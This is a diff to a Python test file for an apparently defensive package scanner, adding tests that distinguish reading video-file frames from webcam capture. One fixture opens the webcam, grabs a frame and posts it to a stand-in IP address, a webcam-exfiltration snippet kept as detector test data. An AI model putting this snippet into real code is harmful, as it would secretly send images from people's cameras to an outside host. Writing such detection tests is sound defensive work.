@@ -10,7 +10,7 @@ from __future__ import annotations
 from app.core.archive import open_artifact
 from app.core.capabilities.scan import scan_artifact
 from tests.core.archive.fixtures import make_sdist, make_wheel
-from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan
+from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan, subfolder
 
 
 def _threats(result) -> list[tuple[str, str]]:
@@ -244,3 +244,24 @@ def test_a_payload_the_package_starts_on_import_is_still_caught(tmp_path):
         "pkg/_w.py": stealer,
     }
     assert_high_with("spawned stealer", scan(files, tmp_path), {"chain.exfiltration"})
+
+
+# ---------------------------------------------------------------- a video file is no webcam
+def _frames(source: str) -> str:
+    return (
+        "import cv2, requests\n\n\ndef frames(file_name):\n"
+        f"    cap = cv2.VideoCapture({source})\n    ok, frame = cap.read()\n"
+        "    requests.post('http://198.51.100.7/f', data=cv2.imencode('.jpg', frame)[1].tobytes())\n"
+    )
+
+
+def test_reading_frames_of_a_video_file_is_not_capture(tmp_path):
+    for i, source in enumerate(("file_name", "'clip.mp4'")):
+        result = scan({"pkg/video.py": _frames(source)}, subfolder(tmp_path, f"v{i}"))
+        assert not [f for f in result.findings if f.capability == "collect.user_input"], source
+
+
+def test_grabbing_the_webcam_and_sending_it_is_still_capture(tmp_path):
+    assert_high_with(
+        "webcam", scan({"pkg/video.py": _frames("0")}, tmp_path), {"chain.capture_exfiltration"}
+    )
